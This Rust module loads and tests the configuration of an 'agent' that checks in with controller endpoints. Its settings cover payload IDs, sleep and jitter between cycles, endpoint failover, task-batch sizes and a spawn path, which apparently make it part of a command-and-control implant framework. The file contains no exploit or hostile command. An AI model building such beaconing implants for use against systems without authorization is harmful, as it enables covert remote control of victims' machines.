//! Agent configuration

use serde::Deserialize;
use std::path::{Path, PathBuf};
use std::time::Duration;
use tether_proto::wire::MAX_REQUEST_LENGTH;
use tether_proto::WireId;
use tether_transport::{Endpoint, Pacing, ProxyConfig, RotationStrategy, SelectorConfig, SocketConfig};
use thiserror::Error;

/// Environment variable naming the config file when no argument is given
pub const CONFIG_ENV: &str = "TETHER_CONFIG";

/// Configuration loading failures
#[derive(Debug, Error)]
pub enum ConfigError {
    /// File could not be read
    #[error("Failed to read {path}: {source}")]
    Read {
        /// Config path
        path: PathBuf,
        /// Underlying error
        source: std::io::Error,
    },

    /// JSON did not match the expected shape
    #[error("Invalid configuration: {0}")]
    Parse(#[from] serde_json::Error),

    /// Values parsed but cannot be used
    #[error("Invalid configuration: {0}")]
    Invalid(String),
}

/// Encryption settings
#[derive(Debug, Clone, Default, Deserialize)]
pub struct EncryptionConfig {
    /// Whether exchanges are encrypted
    #[serde(default)]
    pub enabled: bool,
    /// Key material, base64
    #[serde(default)]
    pub key: String,
}

/// Everything the agent needs to start a session
#[derive(Debug, Clone, Deserialize)]
pub struct AgentConfig {
    /// Identifier sent with the first checkin
    pub payload_id: String,
    /// Encryption settings
    #[serde(default)]
    pub encryption: EncryptionConfig,
    /// Outbound proxy
    #[serde(default)]
    pub proxy: Option<ProxyConfig>,
    /// Base sleep between cycles, in seconds
    #[serde(default = "default_sleep_secs")]
    pub sleep_secs: u64,
    /// Random extra sleep, percent of the base
    #[serde(default)]
    pub jitter: u32,
    /// Endpoint rotation strategy
    #[serde(default)]
    pub rotation: RotationStrategy,
    /// Consecutive failures before an endpoint is declared dead
    #[serde(default = "default_failover_threshold")]
    pub failover_threshold: u32,
    /// Controller endpoints, in priority order
    pub endpoints: Vec<Endpoint>,
    /// Default channel name for links that do not name one
    #[serde(default)]
    pub channel_name: String,
    /// Directory holding local link sockets
    #[serde(default)]
    pub socket_dir: Option<PathBuf>,
    /// Host process for spawned work; read but unused, since no task spawns
    #[serde(default)]
    pub spawn_path: Option<String>,
    /// Cap on one outbound batch
    #[serde(default = "default_max_request_bytes")]
    pub max_request_bytes: usize,
    /// Tasks asked for per get-tasking request
    #[serde(default = "default_tasks_per_request")]
    pub tasks_per_request: u32,
    /// Wait before retrying a busy link channel, in milliseconds
    #[serde(default = "default_link_busy_wait_ms")]
    pub link_busy_wait_ms: u64,
}

fn default_sleep_secs() -> u64 {
    10
}

fn default_failover_threshold() -> u32 {
    5
}

fn default_max_request_bytes() -> usize {
    MAX_REQUEST_LENGTH
}

fn default_tasks_per_request() -> u32 {
    1
}

fn default_link_busy_wait_ms() -> u64 {
    6500
}

impl AgentConfig {
    /// Parse and validate a JSON document
    pub fn from_json(text: &str) -> Result<Self, ConfigError> {
        let config: Self = serde_json::from_str(text)?;
        config.validate()?;
        Ok(config)
    }

    /// Load from a file
    pub fn load(path: &Path) -> Result<Self, ConfigError> {
        let text = std::fs::read_to_string(path).map_err(|source| ConfigError::Read {
            path: path.to_path_buf(),
            source,
        })?;
        Self::from_json(&text)
    }

    /// Resolve the config path from the first argument or [`CONFIG_ENV`]
    pub fn locate(arg: Option<String>) -> Result<PathBuf, ConfigError> {
        arg.or_else(|| std::env::var(CONFIG_ENV).ok())
            .map(PathBuf::from)
            .ok_or_else(|| ConfigError::Invalid(format!("no config path given and {} is unset", CONFIG_ENV)))
    }

    /// Reject values the session cannot run with
    pub fn validate(&self) -> Result<(), ConfigError> {
        if self.endpoints.is_empty() {
            return Err(ConfigError::Invalid("endpoint list is empty".into()));
        }
        if self.failover_threshold == 0 {
            return Err(ConfigError::Invalid("failover threshold must be at least 1".into()));
        }
        if self.max_request_bytes <= tether_proto::ID_LEN + 1 {
            return Err(ConfigError::Invalid(format!(
                "max request bytes {} leaves no room for records",
                self.max_request_bytes
            )));
        }
        self.payload_id()?;
        Ok(())
    }

    /// Initial session identifier
    pub fn payload_id(&self) -> Result<WireId, ConfigError> {
        self.payload_id
            .parse()
            .map_err(|_| ConfigError::Invalid(format!("payload id {:?} is not a UUID", self.payload_id)))
    }

    /// Cycle pacing
    pub fn pacing(&self) -> Pacing {
        Pacing::from_secs(self.sleep_secs, self.jitter)
    }

    /// Endpoint rotation settings
    pub fn selector(&self) -> SelectorConfig {
        SelectorConfig {
            strategy: self.rotation,
            failover_threshold: self.failover_threshold,
        }
    }

    /// Local channel settings
    pub fn sockets(&self) -> SocketConfig {
        let defaults = SocketConfig::default();
        SocketConfig {
            socket_dir: self.socket_dir.clone().unwrap_or(defaults.socket_dir),
            busy_wait: Duration::from_millis(self.link_busy_wait_ms),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const MINIMAL: &str = r#"{
        "payload_id": "11111111-2222-3333-4444-555555555555",
        "endpoints": [{ "host": "127.0.0.1", "port": 8443 }]
    }"#;

    #[test]
    fn test_defaults() {
        let config = AgentConfig::from_json(MINIMAL).unwrap();
        assert_eq!(config.max_request_bytes, 0x300000);
        assert_eq!(config.tasks_per_request, 1);
        assert_eq!(config.link_busy_wait_ms, 6500);
        assert_eq!(config.failover_threshold, 5);
        assert_eq!(config.rotation, RotationStrategy::FailOver);
        assert!(!config.encryption.enabled);
        assert!(!config.endpoints[0].secure);
        assert_eq!(config.sockets().busy_wait, Duration::from_millis(6500));
    }

    #[test]
    fn test_full_document() {
        let text = r#"{
            "payload_id": "11111111-2222-3333-4444-555555555555",
            "encryption": { "enabled": true, "key": "c2VjcmV0" },
            "proxy": { "url": "http://proxy:3128", "username": "u" },
            "sleep_secs": 30,
            "jitter": 20,
            "rotation": "round-robin",
            "failover_threshold": 2,
            "endpoints": [
                { "host": "a.example", "port": 443, "secure": true },
                { "host": "b.example", "port": 80 }
            ],
            "channel_name": "tether",
            "socket_dir": "/run/tether",
            "spawn_path": "/usr/bin/true",
            "tasks_per_request": 4
        }"#;
        let config = AgentConfig::from_json(text).unwrap();
        assert_eq!(config.rotation, RotationStrategy::RoundRobin);
        assert_eq!(config.endpoints.len(), 2);
        assert!(config.endpoints[0].secure);
        assert_eq!(config.proxy.as_ref().unwrap().username.as_deref(), Some("u"));
        assert_eq!(config.pacing().interval(), Duration::from_secs(30));
        assert_eq!(config.pacing().jitter(), 20);
        assert_eq!(config.sockets().socket_dir, PathBuf::from("/run/tether"));
        assert_eq!(config.selector().failover_threshold, 2);
        assert_eq!(config.spawn_path.as_deref(), Some("/usr/bin/true"));
    }

    #[test]
    fn test_rejects_empty_endpoints() {
        let text = r#"{ "payload_id": "11111111-2222-3333-4444-555555555555", "endpoints": [] }"#;
        assert!(matches!(AgentConfig::from_json(text), Err(ConfigError::Invalid(_))));
    }

    #[test]
    fn test_rejects_zero_threshold() {
        let text = r#"{
            "payload_id": "11111111-2222-3333-4444-555555555555",
            "failover_threshold": 0,
            "endpoints": [{ "host": "h", "port": 1 }]
        }"#;
        assert!(matches!(AgentConfig::from_json(text), Err(ConfigError::Invalid(_))));
    }

    #[test]
    fn test_rejects_bad_payload_id() {
        let text = r#"{ "payload_id": "short", "endpoints": [{ "host": "h", "port": 1 }] }"#;
        assert!(matches!(AgentConfig::from_json(text), Err(ConfigError::Invalid(_))));
    }

    #[test]
    fn test_load_from_file() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("agent.json");
        std::fs::write(&path, MINIMAL).unwrap();
        let config = AgentConfig::load(&path).unwrap();
        assert_eq!(config.payload_id().unwrap().as_str(), "11111111-2222-3333-4444-555555555555");

        let missing = AgentConfig::load(&dir.path().join("nope.json"));
        assert!(matches!(missing, Err(ConfigError::Read { .. })));
    }

    #[test]
    fn test_locate_prefers_argument() {
        let path = AgentConfig::locate(Some("/etc/tether.json".into())).unwrap();
        assert_eq!(path, PathBuf::from("/etc/tether.json"));
    }
}
